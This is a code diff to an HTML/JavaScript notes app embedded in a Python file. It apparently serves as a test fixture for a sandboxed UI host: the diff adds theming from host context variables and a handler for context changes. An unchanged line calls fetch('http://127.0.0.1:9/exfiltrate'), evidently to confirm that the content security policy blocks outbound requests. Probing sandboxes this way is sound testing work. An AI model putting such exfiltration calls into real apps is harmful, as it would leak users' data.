@@ -54,6 +54,13 @@ APP_HTML = """<!DOCTYPE html>
     list.forEach(function (n) { var li = document.createElement("li"); li.textContent = n.id + ": " + n.text; ul.appendChild(li); });
     notify("ui/notifications/size-changed", {width: document.body.scrollWidth, height: document.body.scrollHeight + 20});
   }
+  function style(context) {
+    var variables = (context.styles || {}).variables || {};
+    document.body.style.background = variables["--color-background-primary"] || "";
+    document.body.style.color = variables["--color-text-primary"] || "";
+    document.getElementById("theme").textContent = "theme " + context.theme +
+      (variables["--color-background-primary"] ? " with colours" : "");
+  }
   function answer(text) { document.getElementById("answer").textContent = text; }
   document.addEventListener("securitypolicyviolation", function (e) { log("csp blocked " + e.effectiveDirective); });
   window.addEventListener("message", function (event) {
@@ -68,6 +75,8 @@ APP_HTML = """<!DOCTYPE html>
       document.getElementById("input").textContent = "input " + JSON.stringify(m.params.arguments);
     } else if (m.method === "ui/notifications/tool-result") {
       draw((m.params.structuredContent || {}).notes || []);
+    } else if (m.method === "ui/notifications/host-context-changed") {
+      style(m.params);
     }
   });
   document.getElementById("delete").onclick = function () {
@@ -88,7 +97,7 @@ APP_HTML = """<!DOCTYPE html>
   };
   request("ui/initialize", {appInfo: {name: "notes", version: "1"}, appCapabilities: {}, protocolVersion: "2026-01-26"})
     .then(function (result) {
-      document.getElementById("theme").textContent = "theme " + (result.hostContext || {}).theme;
+      style(result.hostContext || {});
       notify("ui/notifications/initialized", {});
       notify("ui/notifications/size-changed", {width: document.body.scrollWidth, height: document.body.scrollHeight + 20});
       fetch("http://127.0.0.1:9/exfiltrate").catch(function () {});
